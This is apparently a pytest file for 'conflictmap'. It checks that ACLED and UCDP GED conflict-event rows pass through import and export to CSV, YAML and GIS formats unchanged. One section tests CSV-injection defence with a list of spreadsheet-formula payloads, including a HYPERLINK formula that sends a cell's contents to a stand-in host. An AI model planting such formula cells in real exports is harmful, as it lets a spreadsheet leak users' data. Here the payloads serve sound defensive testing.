"""Real datasets, faithfully: rows shaped by the published ACLED and UCDP GED codebooks go in
and come back out with every cell as it was, and nothing absent is invented on the way."""

from __future__ import annotations

import csv
import io
import json
import string
import subprocess
import sys
from pathlib import Path

import pyogrio
import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conflictmap import ingest
from conflictmap.csvsafe import TRIGGERS, neutralise
from conflictmap.export import csv_text
from conflictmap.store import event_to_yaml, load_file

from .conftest import DATA, ROOT

EXE = Path(sys.executable).with_name("conflictmap")
ACLED = DATA / "acled_hdx_armenia.csv"  # HDX layout: 28 columns, HXL row, no fatalities
UCDP = DATA / "ucdp_ged231_caucasus.csv"  # GED 23.1: 49 columns
CASES = [("acled", ACLED, "csv", "event_id_cnty"), ("ucdp", UCDP, "ucdp-csv", "id")]


def cm(*args: str, cwd: Path = ROOT) -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(EXE), *args], cwd=cwd, capture_output=True, text=True,
                          timeout=300, stdin=subprocess.DEVNULL)


def table(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(newline="", encoding="utf-8-sig") as fh:
        reader = csv.DictReader(fh)
        rows = [r for r in reader if not str(r.get(reader.fieldnames[0], "")).startswith("#")]
        return list(reader.fieldnames or []), rows


def read_back(exported: Path, id_col: str) -> tuple[list[str], list[dict[str, str]]]:
    """An exported CSV as our import reads it (neutralised formula cells given back)."""
    t = ingest.read_table(exported, id_col)
    return t.header, t.frame.to_dict("records")


def assert_no_formula(exported: Path) -> None:
    """No cell a spreadsheet would run: each starting like a formula has been neutralised."""
    for cells in csv.reader(exported.open(newline="", encoding="utf-8")):
        for c in cells:
            assert c[:1] not in TRIGGERS or neutralise(c) == c, c  # numbers stay numbers


def assert_same_cells(original: Path, exported: Path, id_col: str) -> None:
    head, rows = table(original)
    head_out, rows_out = read_back(exported, id_col)
    assert_no_formula(exported)
    assert head_out[:len(head)] == head  # the dataset's columns first, in its order
    assert "id_cm" in head_out[len(head):]  # then ours
    back = {r[id_col]: r for r in rows_out}
    assert len(back) == len(rows)
    for row in rows:
        got = back[row[id_col]]
        assert {c: got[c] for c in head} == row  # every cell, byte for byte


@pytest.mark.parametrize(("kind", "src", "fmt", "id_col"), CASES)
def test_yaml_import_then_export_gives_every_cell_back(tmp_path, kind, src, fmt, id_col):
    events = tmp_path / "events"
    r = cm("import", kind, str(src), "--events", str(events))
    assert r.returncode == 0 and "0 rows skipped" in r.stdout, r.stderr
    out = tmp_path / f"out.{fmt}.csv"
    r = cm("export", "--format", fmt, "--events", str(events), "--out", str(out))
    assert r.returncode == 0, r.stderr
    assert_same_cells(src, out, id_col)


@pytest.mark.parametrize(("kind", "src", "fmt", "id_col"), CASES)
def test_dataset_import_then_export_gives_every_cell_back(tmp_path, kind, src, fmt, id_col):
    ds = tmp_path / "d.gpkg"
    r = cm("import", kind, str(src), "--to", str(ds))
    assert r.returncode == 0 and "0 rows skipped" in r.stdout, r.stderr
    (tmp_path / "none").mkdir()
    out = tmp_path / "out.csv"
    r = cm("export", "--format", fmt, "--events", str(tmp_path / "none"), "--dataset", str(ds),
           "--out", str(out))
    assert r.returncode == 0, r.stderr
    assert_same_cells(src, out, id_col)


def test_exported_csv_imports_back_to_the_same_records(tmp_path):
    events = tmp_path / "events"
    assert cm("import", "acled", str(ACLED), "--events", str(events)).returncode == 0
    out = tmp_path / "out.csv"
    assert cm("export", "--format", "csv", "--events", str(events), "--out",
              str(out)).returncode == 0
    again = ingest.convert("acled", out)[0]
    first = ingest.convert("acled", ACLED)[0]
    assert {e.id: e.model_dump() for e in again} == {e.id: e.model_dump() for e in first}


def test_hxl_row_is_skipped_by_name_and_ids_keep_their_case():
    events, skipped = ingest.convert("acled", ACLED)
    assert skipped == []  # the HXL row is no "unreadable date"
    assert events[0].id == "ARM4949"
    assert all(e.fatalities is None for e in events)  # the export has no fatalities column


def test_acled_actors_keep_their_roles():
    events = {e.id: e for e in ingest.convert("acled", ACLED)[0]}
    ev = events["AZE1201"]
    assert [(a.name, a.role, a.inter) for a in ev.actors] == [
        ("Military Forces of Azerbaijan (2003-)", "side_a", 1),
        ("Military Forces of Armenia (2018-)", "side_b", 1),
        ("Republic of Artsakh", "assoc_b", None),
        ("Armed Forces of Artsakh", "assoc_b", None)]
    assert [a.role for a in events["AZE1200"].actors] == ["side_a", "assoc_a", "side_b"]


def test_ucdp_figures_and_provenance():
    events = {e.id: e for e in ingest.convert("ucdp", UCDP)[0]}
    first = events["354101"]
    assert first.figures == {"best": 3, "low": 2, "high": 5, "deaths_a": 0, "deaths_b": 2,
                             "deaths_civilians": 1, "deaths_unknown": 0}
    assert len(first.sources[0].provenance or "") > 300  # headlines are provenance, not a quote
    assert first.sources[0].quote is None
    assert events["354102"].event_type == "Battles"
    assert events["354102"].dataset.columns["type_of_violence"] == "2"
    assert events["354103"].event_type == "Violence against civilians"
    # empty death splits stay absent
    assert events["354104"].figures == {"best": 12, "low": 5, "high": 40}
    assert str(events["354102"].end_date) == "2020-10-12"


def test_absent_fatalities_stay_absent_in_every_output(tmp_path):
    events = tmp_path / "events"
    assert cm("import", "acled", str(ACLED), "--events", str(events)).returncode == 0
    text = (events / "2020-11-26-acled-arm4949.yaml").read_text("utf-8")
    assert "fatalities" not in text.split("dataset:")[0]
    out = tmp_path / "out"
    r = cm("build", "--events", str(events), "--out", str(out))
    assert r.returncode == 0, r.stderr
    props = [f["properties"] for f in json.loads(
        (out / "events.geojson").read_text("utf-8"))["features"]]
    assert {p["fatalities"] for p in props} == {None}
    assert {p["dataset"] for p in props} == {"acled"}
    assert "ARM4949" in {p["dataset_id"] for p in props}
    gpkg = tmp_path / "e.gpkg"
    assert cm("export", "--format", "gpkg", "--events", str(events), "--out",
              str(gpkg)).returncode == 0
    frame = pyogrio.read_dataframe(gpkg, layer="events")
    assert frame["fatalities"].isna().all()


# ---------------------------------------------------------------- property test

CELL = st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\x00"),
               max_size=40)
NAME = st.text(alphabet=string.ascii_letters + " -()Əəşğ" + "Սոթք", min_size=1, max_size=30)


@st.composite
def acled_rows(draw) -> dict[str, str]:
    _, rows = table(ACLED)
    row = dict(draw(st.sampled_from(rows)))
    for col in ("notes", "source", "admin2", "region", "source_scale", "data_id", "iso3"):
        row[col] = draw(CELL)
    for col in ("actor1", "location"):
        row[col] = draw(NAME).strip() or "x"
    row["assoc_actor_1"] = "; ".join(draw(st.lists(NAME, max_size=3)))
    row["event_id_cnty"] = draw(st.from_regex(r"[A-Z]{3}[0-9]{1,6}", fullmatch=True))
    row["latitude"] = f"{draw(st.floats(39.5, 41.0)):.4f}"
    return row


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(row=acled_rows())
def test_any_acled_row_survives_yaml_and_csv(tmp_path_factory, row):
    head = list(row)
    src = tmp_path_factory.mktemp("p") / "in.csv"
    with src.open("w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=head)
        w.writeheader()
        w.writerow(row)
    events, skipped = ingest.convert("acled", src)
    assert skipped == [], skipped
    text = event_to_yaml(events[0])
    back, problems = load_file(_write(src.with_suffix(".yaml"), text))
    assert problems == []
    assert back[0].dataset is not None and back[0].dataset.columns == row
    assert yaml.safe_load(text)["dataset"]["columns"] == row
    exported = _write(src.with_suffix(".out.csv"), csv_text([dict(row)], head))
    assert_no_formula(exported)
    out = read_back(exported, "event_id_cnty")[1]
    assert {c: out[0][c] for c in head} == row


def _write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8", newline="")
    return path


@pytest.mark.parametrize("cell", ["", " ", "\r", "a\r\nb", "\x85", "\u2028x", "\ufeff", "\x7f",
                                  "'", '"', "\\", "#x", "- a", "yes", "null", "~", "1e3",
                                  "2020-11-26", "\t lead", "😀", "Սոթք", "=1+1"])
def test_awkward_cells_survive_the_yaml_file(tmp_path, cell):
    events = ingest.convert("acled", ACLED)[0]
    ev = events[0].model_copy(deep=True)
    assert ev.dataset is not None
    ev.dataset.columns["notes"] = cell
    ev.dataset.columns[cell or "empty"] = cell  # as a column name too
    back, problems = load_file(_write(tmp_path / "x.yaml", event_to_yaml(ev)))
    assert problems == [] and back[0].dataset == ev.dataset


# ---------------------------------------------------------------- optional fields

OPTIONAL = DATA / "optional"


@pytest.mark.parametrize("case", ["none", "all"])
def test_events_without_or_with_every_optional_field_build_and_export(tmp_path, case):
    from conflictmap.export import FORMATS, SUFFIX

    events = OPTIONAL / case
    out = tmp_path / "out"
    r = cm("build", "--events", str(events), "--out", str(out))
    assert r.returncode == 0, r.stderr
    assert (out / "map.html").stat().st_size > 10_000
    for fmt in FORMATS:
        target = tmp_path / f"e{SUFFIX[fmt]}"
        r = cm("export", "--format", fmt, "--events", str(events), "--out", str(target))
        assert r.returncode == 0, (fmt, r.stderr)
        layers = pyogrio.list_layers(target)
        assert pyogrio.read_info(target, layer=layers[0][0])["features"] == len(
            list(events.glob("*.yaml"))), fmt
    props = {f["properties"]["id"]: f["properties"] for f in json.loads(
        (out / "events.geojson").read_text("utf-8"))["features"]}
    if case == "none":
        bare = props["2020-11-26-bare"]
        assert bare["fatalities"] is None and bare["description"] is None
        assert bare["tags"] == [] and bare["actors"] == [] and bare["dataset"] is None
        assert bare["end_date"] is None and bare["date_time"] is None
    else:
        ev = props["2020-11-10-everything"]
        assert ev["date"] == "2020-11-10"  # the local day, not 9 Nov in UTC
        assert ev["end_date"] == "2020-11-12"
        assert ev["date_time"] == "2020-11-10T00:00:00+03:00"
        assert ev["fatalities"] == 2 and ev["tags"] == ["handover", "Քաղաք", "border"]
        assert ev["source_publishers"] == ["Пример", "Second source"]
        assert ev["source_dates"] == ["2020-11-11", "2020-11-12"]
        assert ev["dataset"] == "acled" and ev["dataset_id"] == "ARM1"
        assert isinstance(ev["actors_json"], str)  # JSON text, as its name says
        roles = [(a.get("name"), a.get("role")) if isinstance(a, dict) else (a, None)
                 for a in json.loads(ev["actors_json"])]
        assert ("Republic of Artsakh", "assoc_b") in roles
        assert json.loads(ev["figures_json"])["share"] == 0.5
        gpkg = tmp_path / "e.gpkg"
        info = pyogrio.read_info(gpkg, layer="events")
        types = dict(zip(info["fields"], info["dtypes"], strict=True))
        assert types["date"].startswith("datetime64") and "admin1" in types
        frame = pyogrio.read_dataframe(gpkg, layer="events")
        assert str(frame["date"].iloc[0])[:10] == "2020-11-10"
        fgb = pyogrio.read_info(tmp_path / "e.fgb")
        assert dict(zip(fgb["fields"], fgb["dtypes"], strict=True))["date"].startswith(
            "datetime64")


def test_text_that_looks_like_json_stays_text_in_geojson(tmp_path):
    src = (OPTIONAL / "none" / "2020-11-25-bare-point.yaml").read_text("utf-8")
    (tmp_path / "ev").mkdir()
    (tmp_path / "ev" / "2020-11-25-json-title.yaml").write_text(
        src.replace("title: Convoy on the Kalbajar road", 'title: "[1, 2]"')
        + 'description: \'{"a": 1}\'\n', encoding="utf-8")
    r = cm("build", "--events", str(tmp_path / "ev"), "--out", str(tmp_path / "out"))
    assert r.returncode == 0, r.stderr
    props = json.loads((tmp_path / "out" / "events.geojson").read_text("utf-8"))[
        "features"][0]["properties"]
    assert props["title"] == "[1, 2]" and props["description"] == '{"a": 1}'


# ---------------------------------------------------------------- formulas (OWASP CSV injection)

FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1,"Click")', "+SUM(1)", "@SUM(1)", "-2+3", "'=x",
            "''+1", "\tTAB", "\rCR", "＝1+1", "'plain quote", "-1.5", "-"]


@pytest.mark.parametrize("notes", FORMULAS)
def test_formula_cells_go_out_neutralised_and_come_back_as_they_were(tmp_path, notes):
    _, rows = table(ACLED)
    row = {**rows[0], "notes": notes, "admin2": notes}
    events, skipped = ingest.convert("acled", _write(tmp_path / "in.csv", _csv([row])))
    assert skipped == [] and events[0].dataset.columns["notes"] == notes
    out = _write(tmp_path / "out.csv", csv_text([{**row, "description_cm": notes}], list(row)))
    raw = next(r for r in csv.DictReader(out.open(newline="", encoding="utf-8")))
    assert raw["notes"] == raw["admin2"] == raw["description_cm"] == neutralise(notes)
    if notes[:1] in "=+@\t\r＝" or notes.startswith("'="):
        assert raw["notes"] == "'" + notes
    assert_no_formula(out)
    back = read_back(out, "event_id_cnty")[1][0]
    assert back["notes"] == back["admin2"] == back["description_cm"] == notes


def test_plain_numbers_are_not_neutralised(tmp_path):
    for cell in ("-1.5", "+3", "-2e5", "40.0853", "-0"):
        assert neutralise(cell) == cell


def test_the_fixture_hyperlink_note_is_neutralised_end_to_end(tmp_path):
    _, rows = table(ACLED)
    note = next(r["notes"] for r in rows if r["notes"].startswith("=HYPERLINK"))
    events = tmp_path / "events"
    assert cm("import", "acled", str(ACLED), "--events", str(events)).returncode == 0
    out = tmp_path / "out.csv"
    assert cm("export", "--format", "csv", "--events", str(events), "--out",
              str(out)).returncode == 0
    assert "'" + note in {r["notes"] for r in csv.DictReader(out.open(encoding="utf-8"))}
    again = {e.id: e for e in ingest.convert("acled", out)[0]}
    assert note in {e.description for e in again.values()}
    assert note in {e.dataset.columns["notes"] for e in again.values() if e.dataset}


def _csv(rows: list[dict[str, str]]) -> str:
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=list(rows[0]), lineterminator="\r\n")
    w.writeheader()
    w.writerows(rows)
    return buf.getvalue()


@pytest.mark.parametrize(("kind", "src", "fmt", "id_col"), CASES)
def test_every_column_of_a_dataset_row_reaches_the_gis_formats(tmp_path, kind, src, fmt, id_col):
    """GeoJSON, GPKG and FlatGeobuf carry the dataset's own row as `dataset_json`, read back
    by GDAL: every cell the CSV had (not only the columns the record maps)."""
    import json

    import pyogrio

    ds = tmp_path / "d.gpkg"
    assert cm("import", kind, str(src), "--to", str(ds)).returncode == 0
    (tmp_path / "none").mkdir()
    head, rows = read_back(src, id_col)
    for suffix in ("geojson", "gpkg", "fgb"):
        out = tmp_path / f"e.{suffix}"
        r = cm("export", "--format", suffix, "--events", str(tmp_path / "none"), "--dataset",
               str(ds), "--out", str(out))
        assert r.returncode == 0, r.stderr
        back = pyogrio.read_dataframe(out, layer="events" if suffix == "gpkg" else None,
                                      read_geometry=False)
        got = {json.loads(t)["columns"][id_col]: json.loads(t)["columns"]
               for t in back["dataset_json"]}
        assert len(got) == len(rows)
        for row in rows:
            assert {c: got[row[id_col]][c] for c in head} == row, suffix
